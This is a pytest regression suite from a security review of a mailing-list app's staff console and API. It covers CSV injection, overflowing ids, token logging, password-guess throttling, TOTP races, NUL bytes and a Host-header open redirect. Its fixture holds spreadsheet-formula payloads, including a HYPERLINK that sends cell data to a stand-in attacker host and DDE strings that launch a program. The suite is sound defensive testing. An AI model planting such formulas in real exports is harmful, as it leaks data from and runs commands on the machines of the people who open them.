"""A hostile review of the staff console and the staff API (issues 13 and 14), over real HTTP
against one real ``cadence web`` (JSON logs on, as in production): the findings that were fixed,
each pinned by the request that showed it.

- CSV export: a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a
  formula to Excel and LibreOffice (OWASP "CSV Injection"); the export neutralises it.
- Ids and page numbers past the database's integer range were a 500 (an OverflowError from the
  driver); they are now a 404 page, or a 422 in the API.
- A setup link's token reached the JSON log when its form failed the CSRF check (a form left
  open longer than the CSRF token lives, while the link itself is still good for 72 hours).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pyotp
import pytest

from cadence.db.models import Subscriber
from cadence.db.session import transaction
from cadence.operations.staff_access import create_token
from tests.support.console import new_user, session_client
from tests.support.smtpd import SmtpSink
from tests.support.web import WebServer

T0 = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
FORMULAS = {
    "first_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "city": "+1+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "score": "-2+3",
    "tabbed": "\t=1+1",
}


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory, web_sink: SmtpSink) -> Iterator[WebServer]:
    extra = {"CADENCE_LOG_FORMAT": "json"}
    with WebServer(tmp_path_factory.mktemp("console-security"), web_sink, extra_env=extra, log_level="info") as server:
        with transaction(server.settings.database_url) as session:
            session.add(
                Subscriber(
                    email="=evil@example.com",
                    email_key="=evil@example.com",
                    first_name=FORMULAS["first_name"],
                    attributes={k: v for k, v in FORMULAS.items() if k != "first_name"} | {"=formula_key": "x"},
                    timezone="America/New_York",
                    status="active",
                    source="test",
                    created_at=T0,
                    updated_at=T0,
                    confirmed_at=T0,
                    soft_bounces=0,
                    consent={"version": "2026-11"},
                )
            )
        yield server


def _token(web: WebServer, name: str, scope: str = "read") -> str:
    with transaction(web.settings.database_url) as session:
        return create_token(session, name, scope, actor="cli:test", now=web.clock.now())[0]


def test_the_csv_export_neutralises_every_cell_a_spreadsheet_would_run(web: WebServer) -> None:
    token = _token(web, "exporter")
    answer = httpx.get(
        web.url("/api/staff/subscribers/export"),
        headers={"Authorization": f"Bearer {token}", **web.from_ip()},
        timeout=10,
    )
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.text)))
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    # Neutralised, not lost: a leading apostrophe, as OWASP advises, and the value otherwise intact.
    assert "'" + FORMULAS["first_name"] in cells and "'=evil@example.com" in cells
    assert "'=formula_key" in rows[0]
    # The JSON lines export is data for programs, not a spreadsheet: unchanged.
    lines = httpx.get(
        web.url("/api/staff/subscribers/export?format=json"),
        headers={"Authorization": f"Bearer {token}", **web.from_ip()},
        timeout=10,
    )
    assert FORMULAS["first_name"].replace('"', '\\"') in lines.text


def test_ids_and_pages_past_the_integer_range_are_not_a_server_error(web: WebServer) -> None:
    huge = "9" * 25
    admin = session_client(web, "ada.admin@clinic.example", "admin")
    for path in (
        f"/admin/subscribers/{huge}",
        f"/admin/subscribers?before={huge}",  # the list pages by id since the 1M-row work
        f"/admin/audit?page_number={huge}",
        "/admin/subscribers/99999999999",
    ):
        answer = admin.get(path)
        assert answer.status_code == 404, (path, answer.status_code)
    token = re.search(r'name="csrf_token" value="([^"]+)"', admin.get("/admin/users").text)
    assert token is not None
    for action in ("disable", "reset"):
        answer = admin.post(f"/admin/users/{huge}/{action}", data={"csrf_token": token.group(1)})
        assert answer.status_code == 404, (action, answer.status_code)
    api = httpx.get(
        web.url(f"/api/staff/subscribers?after={huge}"),
        headers={"Authorization": f"Bearer {_token(web, 'pager')}", **web.from_ip()},
        timeout=10,
    )
    assert api.status_code == 422
    assert "Exception in ASGI application" not in web.log()


def test_a_setup_link_token_never_reaches_the_log_even_when_its_form_fails(web: WebServer) -> None:
    setup = new_user(web, "late.larry@clinic.example", "viewer")
    secret = setup.rsplit("/", 1)[1]
    client = web.client()
    assert client.get(setup).status_code == 200
    # The form left open past the CSRF token's life: refused, and the refusal is logged.
    stale = client.post(setup, data={"csrf_token": "stale", "password": "x" * 14, "confirm": "x" * 14})
    assert stale.status_code == 403
    log = web.log()
    assert "CSRF check failed" in log
    assert secret not in log
    assert client.get(setup).status_code == 200  # and the link still works


def test_a_stolen_session_cannot_guess_the_password_faster_than_the_login_form(web: WebServer) -> None:
    # The password and second-factor forms check the current password: unthrottled, a session
    # cookie (a workstation left unlocked) was an oracle at tens of guesses a second, around the
    # login form's 5 per account in 15 minutes. They now share the login form's counters.
    viewer = session_client(web, "vic.viewer@clinic.example", "viewer")
    token = re.search(r'name="csrf_token" value="([^"]+)"', viewer.get("/admin/account").text)
    assert token is not None
    answers = []
    for n in range(4):
        guess = {"csrf_token": token.group(1), "current_password": f"guess {n} of many"}
        answers.append(viewer.post("/admin/account/totp/remove", data=guess).status_code)
        change = {**guess, "password": "a brand new password", "confirm": "a brand new password"}
        answers.append(viewer.post("/admin/account/password", data=change).status_code)
    assert answers[:4] == [400, 400, 400, 400]  # the login at session_client counted once
    assert answers[4:] == [429, 429, 429, 429]
    refused = viewer.post("/admin/account/password", data={"csrf_token": token.group(1), "current_password": "x"})
    assert refused.status_code == 429 and "Retry-After" in refused.headers
    assert viewer.get("/admin/account").status_code == 200  # the session itself goes on


def test_turning_the_code_app_on_needs_the_password_so_a_stolen_session_cannot_lock_the_owner_out(
    web: WebServer,
) -> None:
    # With only a session cookie, an attacker could put their own key in the owner's account:
    # the owner then cannot log in without an admin (OWASP Authentication Cheat Sheet:
    # re-authenticate before changing the second factor; turning it off already asked).
    from tests.support.console import PASSWORD, log_in

    owner = session_client(web, "olga.owner@clinic.example", "viewer")
    page = owner.get("/admin/account").text
    secret = re.search(r'id="totp-secret">([A-Z2-7]+)<', page)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert secret is not None and token is not None
    code = pyotp.TOTP(secret.group(1)).at(web.clock.now())
    form = {"csrf_token": token.group(1), "secret": secret.group(1), "code": code}
    hijack = owner.post("/admin/account/totp", data=form)
    assert hijack.status_code == 400 and "current password" in hijack.text
    assert log_in(web.client(), "olga.owner@clinic.example").headers["location"] == "/admin"  # still no code asked
    on = owner.post("/admin/account/totp", data={**form, "current_password": PASSWORD})
    assert on.headers["location"] == "/admin/account?done=totp-on"
    assert log_in(web.client(), "olga.owner@clinic.example").headers["location"] == "/admin/login/code"


def test_one_totp_code_opens_one_session_when_two_logins_race_on_postgresql() -> None:
    # Each code is good once (RFC 6238 §5.2). Two half-way logins posting the same code at the
    # same moment (a phished password and code, replayed while the owner logs in) both read
    # "no step used yet" and both got a full session; the user row is now locked for the check.
    import threading
    from datetime import timedelta

    from cadence.db.migrate import upgrade
    from cadence.operations import staff_accounts as accounts
    from cadence.operations import staff_login as logins
    from tests.support.services import postgres_database

    now = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
    policy = accounts.SessionPolicy(idle=timedelta(minutes=30), absolute=timedelta(hours=12))
    password = "correct horse battery"
    with postgres_database() as url:
        upgrade(url)
        with transaction(url) as session:
            link = accounts.add_user(session, "rae@clinic.example", "editor", actor="cli:test", now=now)
        with transaction(url) as session:
            accounts.complete_setup(session, link.token, password, password, now=now)
            started = logins.login(session, "rae@clinic.example", password, now=now, policy=policy)
            assert started is not None
            me = logins.current_identity(session, started.token, now=now, policy=policy)
            assert me is not None
            secret = logins.new_totp_secret()
            logins.enable_totp(session, me, secret, pyotp.TOTP(secret).at(now), password=password, now=now)
        later = now + timedelta(seconds=60)  # a step the enable did not use
        code = pyotp.TOTP(secret).at(later)

        def half_way() -> accounts.StaffIdentity:
            with transaction(url) as session:
                begun = logins.login(session, "rae@clinic.example", password, now=later, policy=policy)
                assert begun is not None and begun.stage == "password"
                found = logins.current_identity(session, begun.token, now=later, policy=policy)
                assert found is not None
                return found

        first, second = half_way(), half_way()
        outcome: dict[str, object] = {}

        def race() -> None:
            with transaction(url) as session:
                outcome["second"] = logins.verify_totp(session, second, code, now=later, policy=policy)

        with transaction(url) as session:
            assert logins.verify_totp(session, first, code, now=later, policy=policy) is not None
            session.flush()
            other = threading.Thread(target=race)
            other.start()
            other.join(0.5)  # it reads (or waits for) the user row while this one is uncommitted
        other.join(10)
        assert outcome == {"second": None}


def test_a_nul_character_is_a_400_not_a_postgresql_error(web_sink: SmtpSink, tmp_path: Path) -> None:
    # PostgreSQL text cannot hold NUL (0x00): psycopg raised DataError, a 500 for the login form,
    # the console search and most staff API routes. NUL is never text anyone meant to send: the
    # body guard refuses it in the path, the query, a form and a JSON body, before any parsing.
    from tests.support.services import postgres_database

    with postgres_database() as url, WebServer(tmp_path, web_sink, extra_env={"CADENCE_DATABASE_URL": url}) as pg:
        token = _token(pg, "nul-bot", "admin")
        admin = session_client(pg, "nils.admin@clinic.example", "admin")
        assert admin.get("/admin/subscribers?q=a%00b").status_code == 400
        client = pg.client()
        form = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/admin/login").text)
        assert form is not None
        login = {"csrf_token": form.group(1), "email": "nils.admin\x00@clinic.example", "password": "x" * 14}
        assert client.post("/admin/login", data=login).status_code == 400
        bearer = {"Authorization": f"Bearer {token}", **pg.from_ip()}
        for method, path, body in (
            ("GET", "/api/staff/subscribers?q=a%00b", None),
            ("GET", "/api/staff/subscribers/a%00b@example.com", None),
            ("GET", "/api/staff/audit?target=a%00", None),
            ("POST", "/api/staff/subscribers/tags", {"emails": ["a\x00@example.com"], "add": ["x"]}),
            ("POST", "/api/staff/subscribers/a@example.com/suppression", {"reason": "a\x00b"}),
        ):
            answer = httpx.request(method, pg.url(path), headers=bearer, json=body, timeout=10)
            assert answer.status_code == 400, (path, answer.status_code, answer.text)
            assert "NUL" in answer.json()["detail"]
        assert httpx.get(pg.url("/api/staff/subscribers?q=a"), headers=bearer).status_code == 200
        assert "Exception in ASGI application" not in pg.log()


def test_a_campaign_name_too_long_for_a_file_name_is_a_422_not_a_500(web: WebServer) -> None:
    # The report reads campaigns/<name>.yaml: a 3,000-character name was OSError "File name too
    # long" (ENAMETOOLONG), a 500 naming nothing.
    bearer = {"Authorization": f"Bearer {_token(web, 'reporter')}", **web.from_ip()}
    answer = httpx.get(web.url("/api/staff/report/" + "x" * 3000), headers=bearer, timeout=10)
    assert answer.status_code == 422, answer.text
    assert httpx.get(web.url("/api/staff/report/no-such-campaign"), headers=bearer).status_code == 404


def test_a_slash_redirect_stays_on_our_site_whatever_the_host_header_says(web: WebServer) -> None:
    """Starlette's trailing-slash redirect built its Location from the Host header: behind a
    proxy that passes any Host, /admin/ sent people to evil.example (open redirect)."""
    hostile = {"Host": "evil.example"}
    with httpx.Client(base_url=web.base_url, headers=web.from_ip(), follow_redirects=False) as client:
        for asked, expected in [
            ("/admin/", "/admin"),
            ("/admin/subscribers/?q=runner", "/admin/subscribers?q=runner"),
            ("/admin/login/", "/admin/login"),
            ("/subscribe/", "/subscribe"),
            ("/manage/", "/manage"),
        ]:
            answer = client.get(asked, headers=hostile)
            assert answer.status_code == 307, (asked, answer.status_code)
            assert answer.headers["location"] == expected, asked
            assert "evil" not in answer.headers["location"]
            assert client.get(answer.headers["location"]).status_code in (200, 303), asked
        # A path that would redirect to "//host" (another site, to a browser) is a plain 404.
        for path in ("//evil.example/", "//admin/", "/nothing-here/"):
            answer = client.get(f"{web.base_url}{path}", headers=hostile)  # the full URL: a raw path
            assert answer.status_code == 404, (path, answer.status_code, answer.headers.get("location"))


def test_the_subscriber_filters_refuse_an_unknown_status_in_one_sentence(web: WebServer) -> None:
    client = session_client(web, "fil.viewer@clinic.example", "viewer")
    refused = client.get("/admin/subscribers", params={"status": "gone<b>", "q": "evil"})
    assert refused.status_code == 400
    assert "Status: &#39;gone&lt;b&gt;&#39; is not one of pending" in refused.text and "<b>" not in refused.text
    found = client.get("/admin/subscribers", params={"status": "active", "q": "evil", "tag": ""})
    assert found.status_code == 200 and "=evil@example.com" in found.text
    assert client.get("/admin/subscribers", params={"tag": "not a tag!"}).status_code == 400
    assert client.get("/admin/subscribers", params={"before": 2**63}).status_code in (404, 422)  # not a 500
